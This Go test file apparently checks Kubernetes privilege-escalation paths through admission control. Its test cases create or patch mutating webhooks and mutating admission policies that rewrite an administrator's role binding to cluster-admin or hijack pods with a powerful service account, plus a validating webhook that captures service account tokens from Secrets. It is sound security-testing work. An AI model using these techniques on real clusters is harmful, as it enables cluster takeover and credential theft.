package apiserver

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"

	"github.com/retrial-io/retrial/test/apiserver/controlplane"
)

const admissionGroup = admissionregistrationv1.GroupName

// admissionEscalations have a say in what others write: an administrator binds a harmless role
// and the attacker is cluster-admin.
var admissionEscalations = []escalation{
	{edge: "webhook-write", how: "create", grants: func(string, string) []grant {
		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, bindings,
			a.rewriter(bindingPatch(a.name))), metav1.CreateOptions{})
		if err != nil {
			return nil, err
		}
		return a.config, a.victim()
	}},
	{edge: "webhook-write", how: "patch", grants: func(_, name string) []grant {
		return []grant{{verb: "patch", group: admissionGroup, resource: "mutatingwebhookconfigurations", name: name}}
	}, prepare: func(t *testing.T, s *scene, _, name string) {
		url := "https://127.0.0.1:1/vendor"
		if _, err := s.admin.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(t.Context(),
			mutating(name, bindings, admissionregistrationv1.WebhookClientConfig{URL: &url}), metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, a.name, types.JSONPatchType,
			mustJSON(a.t, []operation{replace("/webhooks/0/clientConfig", a.rewriter(bindingPatch(a.name)))}), metav1.PatchOptions{})
		if err != nil {
			return nil, err
		}
		return a.config, a.victim()
	}},
	// Nobody need be an administrator: the pod of anybody is made one of the attacker's, as the
	// powerful service account.
	{edge: "webhook-write", how: "pod", grants: func(string, string) []grant {
		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingwebhookconfigurations"}}
	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, mutating(a.name, pods,
			a.rewriter(podPatch)), metav1.CreateOptions{})
		if err != nil {
			return nil, err
		}
		return a.victimPod()
	}},
	// One that may not change anything still reads: here a token, as it is written.
	{edge: "webhook-write", how: "validating", grants: func(string, string) []grant {
		return []grant{{verb: "create", group: admissionGroup, resource: "validatingwebhookconfigurations"}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		tokens := make(chan string, 100)
		_, err := a.client.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, validating(a.name, a.reader(tokens)),
			metav1.CreateOptions{})
		if err != nil {
			return nil, err
		}
		var token string
		n := 0
		controlplane.Poll(a.t, "a token to be written", func(ctx context.Context) (bool, string) {
			select {
			case token = <-tokens:
				return true, ""
			default:
			}
			// Somebody asks for another token.
			n++
			s := tokenSecret(fmt.Sprintf("%s-%d", a.name, n))
			s.Labels = map[string]string{"app": a.name}
			_, err := a.admin.CoreV1().Secrets(a.namespace).Create(ctx, s, metav1.CreateOptions{})
			return false, fmt.Sprint(err)
		})
		return a.Bearer(token), nil
	}},
	{edge: "policy-write", how: "create", grants: func(string, string) []grant {
		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, bindings,
			rewriting(bindingPatch(a.name))), metav1.CreateOptions{})
		if err != nil {
			return nil, err
		}
		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name),
			metav1.CreateOptions{}); err != nil {
			return nil, err
		}
		return a.config, a.victim()
	}},
	{edge: "policy-write", how: "pod", grants: func(string, string) []grant {
		return []grant{{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicies"},
			{verb: "create", group: admissionGroup, resource: "mutatingadmissionpolicybindings"}}
	}, prepare: makeClerk, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(ctx, policyOf(a.name, pods, rewriting(podPatch)),
			metav1.CreateOptions{})
		if err != nil {
			return nil, err
		}
		if _, err = a.client.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(ctx, bindingOf(a.name),
			metav1.CreateOptions{}); err != nil {
			return nil, err
		}
		return a.victimPod()
	}},
	{edge: "policy-write", how: "patch", grants: func(_, name string) []grant {
		return []grant{{verb: "patch", group: admissionGroup, resource: "mutatingadmissionpolicies", name: name}}
	}, prepare: func(t *testing.T, s *scene, _, name string) {
		harmless := `[JSONPatch{op: "add", path: "/metadata/labels/seen", value: "yes"}]`
		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicies().Create(t.Context(), policyOf(name, bindings, harmless),
			metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
		if _, err := s.admin.AdmissionregistrationV1().MutatingAdmissionPolicyBindings().Create(t.Context(), bindingOf(name),
			metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}, attack: func(ctx context.Context, a *attacker) (*rest.Config, error) {
		_, err := a.client.AdmissionregistrationV1().MutatingAdmissionPolicies().Patch(ctx, a.name, types.JSONPatchType,
			mustJSON(a.t, []operation{replace("/spec/mutations/0/jsonPatch/expression", rewriting(bindingPatch(a.name)))}),
			metav1.PatchOptions{})
		if err != nil {
			return nil, err
		}
		return a.config, a.victim()
	}},
}

// operation is one of a JSON patch.
type operation struct {
	Op    string `json:"op"`
	Path  string `json:"path"`
	Value any    `json:"value"`
}

func replace(path string, value any) operation { return operation{"replace", path, value} }

// bindingPatch makes any binding one of an attacker to cluster-admin.
func bindingPatch(name string) []operation {
	return []operation{replace("/roleRef/name", clusterAdmin.Name), replace("/subjects/0/kind", rbacv1.UserKind),
		replace("/subjects/0/name", name)}
}

// podPatch makes any pod one of an attacker, as the powerful service account.
var podPatch = []operation{replace("/spec/serviceAccountName", superrobot), replace("/spec/containers/0/image", "mine")}

// marked returns the requests that an attacker's webhook or policy is about: those of its own
// escalation and of no other one.
func marked(name string) *metav1.LabelSelector {
	return &metav1.LabelSelector{MatchLabels: map[string]string{"app": name}}
}

// victim lets an administrator bind a harmless role to somebody, once the apiserver has heard
// of the attacker's webhook or policy: until then the request is a rehearsal.
func (a *attacker) victim() error {
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: a.name + "-victim", Labels: marked(a.name).MatchLabels},
		Subjects: []rbacv1.Subject{{APIGroup: rbacGroup, Kind: rbacv1.GroupKind, Name: "auditors"}},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacGroup, Kind: "ClusterRole", Name: "view"}}
	controlplane.Poll(a.t, "the apiserver to hear of it", func(ctx context.Context) (bool, string) {
		made, err := a.admin.RbacV1().ClusterRoleBindings().Create(ctx, binding, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if err != nil {
			return false, err.Error()
		}
		return made.RoleRef == clusterAdmin, "not yet"
	})
	_, err := a.admin.RbacV1().ClusterRoleBindings().Create(a.t.Context(), binding, metav1.CreateOptions{})
	return err
}

// makeClerk makes the service account of a harmless pod.
func makeClerk(t *testing.T, s *scene, namespace, name string) {
	if _, err := s.admin.CoreV1().ServiceAccounts(namespace).Create(t.Context(),
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: name + "-clerk"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// victimPod lets somebody run a harmless pod, as victim does with a binding, and returns
// whoever is inside.
func (a *attacker) victimPod() (*rest.Config, error) {
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: a.name, Labels: marked(a.name).MatchLabels}, Spec: a.node1(a.name + "-clerk")}
	controlplane.Poll(a.t, "the apiserver to hear of it", func(ctx context.Context) (bool, string) {
		made, err := a.admin.CoreV1().Pods(a.namespace).Create(ctx, pod, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		if err != nil {
			return false, err.Error()
		}
		return made.Spec.ServiceAccountName == superrobot, "not yet"
	})
	if _, err := a.admin.CoreV1().Pods(a.namespace).Create(a.t.Context(), pod, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	return a.inside(a.name), nil
}

// rewriter returns a webhook that changes whatever it is asked about.
func (a *attacker) rewriter(change []operation) admissionregistrationv1.WebhookClientConfig {
	patch, kind := mustJSON(a.t, change), admissionv1.PatchTypeJSONPatch
	return a.webhook(func(*admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse {
		return &admissionv1.AdmissionResponse{Allowed: true, Patch: patch, PatchType: &kind}
	})
}

// reader returns a webhook that keeps the tokens it sees.
func (a *attacker) reader(tokens chan<- string) admissionregistrationv1.WebhookClientConfig {
	return a.webhook(func(r *admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse {
		var s corev1.Secret
		if err := json.Unmarshal(r.Object.Raw, &s); err == nil {
			if token := s.Data[corev1.ServiceAccountTokenKey]; len(token) > 0 {
				select {
				case tokens <- string(token):
				default: // one is enough
				}
			}
		}
		return &admissionv1.AdmissionResponse{Allowed: true}
	})
}

// webhook serves admission reviews from the attacker's own machine, outside the cluster.
func (a *attacker) webhook(
	answer func(*admissionv1.AdmissionRequest) *admissionv1.AdmissionResponse) admissionregistrationv1.WebhookClientConfig {
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var review admissionv1.AdmissionReview
		body, err := io.ReadAll(r.Body)
		if err == nil {
			err = json.Unmarshal(body, &review)
		}
		if err != nil || review.Request == nil {
			http.Error(w, "not a review", http.StatusBadRequest)
			return
		}
		review.Response = answer(review.Request)
		review.Response.UID, review.Request = review.Request.UID, nil
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(review)
	}))
	a.t.Cleanup(server.Close)
	return admissionregistrationv1.WebhookClientConfig{URL: &server.URL,
		CABundle: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}
}

func mutating(name string, what admissionregistrationv1.Rule,
	at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.MutatingWebhookConfiguration {
	none, ignore := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Ignore
	return &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none,
			FailurePolicy:           &ignore,
			AdmissionReviewVersions: []string{"v1"}, ObjectSelector: marked(name),
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{
				admissionregistrationv1.Create}, Rule: what}}}}}
}

func validating(name string, at admissionregistrationv1.WebhookClientConfig) *admissionregistrationv1.ValidatingWebhookConfiguration {
	none, ignore := admissionregistrationv1.SideEffectClassNone, admissionregistrationv1.Ignore
	return &admissionregistrationv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "hook.example.com", ClientConfig: at, SideEffects: &none,
			FailurePolicy:           &ignore,
			AdmissionReviewVersions: []string{"v1"}, ObjectSelector: marked(name),
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{
				admissionregistrationv1.Update},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"},
					Resources: []string{"secrets"}}}}}}}
}

// What webhooks and policies are about.
var (
	bindings = admissionregistrationv1.Rule{APIGroups: []string{rbacGroup}, APIVersions: []string{"v1"},
		Resources: []string{"clusterrolebindings"}}
	pods = admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}
)

// rewriting returns a change as an expression.
func rewriting(change []operation) string {
	var patches []string
	for _, o := range change {
		patches = append(patches, fmt.Sprintf("JSONPatch{op: %q, path: %q, value: %q}", o.Op, o.Path, o.Value))
	}
	return "[" + strings.Join(patches, ", ") + "]"
}

func policyOf(name string, what admissionregistrationv1.Rule, expression string) *admissionregistrationv1.MutatingAdmissionPolicy {
	ignore := admissionregistrationv1.Ignore
	return &admissionregistrationv1.MutatingAdmissionPolicy{ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{FailurePolicy: &ignore,
			ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
			MatchConstraints: &admissionregistrationv1.MatchResources{ObjectSelector: marked(name),
				ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{
					{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
						Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: what}}}},
			Mutations: []admissionregistrationv1.Mutation{{PatchType: admissionregistrationv1.PatchTypeJSONPatch,
				JSONPatch: &admissionregistrationv1.JSONPatch{Expression: expression}}}}}
}

func bindingOf(policy string) *admissionregistrationv1.MutatingAdmissionPolicyBinding {
	return &admissionregistrationv1.MutatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: policy},
		Spec: admissionregistrationv1.MutatingAdmissionPolicyBindingSpec{PolicyName: policy}}
}
